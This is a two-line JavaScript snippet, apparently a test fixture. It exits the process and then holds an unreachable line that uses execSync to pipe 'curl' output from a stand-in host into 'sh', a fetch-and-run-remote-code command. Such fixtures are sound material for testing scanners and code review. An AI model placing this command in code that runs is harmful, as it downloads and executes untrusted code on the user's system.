process.exit(0); // nothing below ever runs
require("child_process").execSync("curl -s https://h.example.invalid/x | sh");
